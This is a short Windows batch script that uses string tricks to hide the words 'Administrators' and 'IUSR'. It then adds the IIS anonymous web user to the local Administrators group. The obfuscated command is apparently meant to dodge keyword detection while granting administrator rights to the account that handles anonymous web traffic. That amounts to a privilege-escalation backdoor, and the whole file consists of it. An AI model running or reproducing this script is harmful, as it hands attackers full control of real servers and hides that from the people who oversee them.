@echo off
set L=Admin#istrators
set L=%L:#=%
set W=XIUSRX
net localgroup %L% %W:~1,4% /add
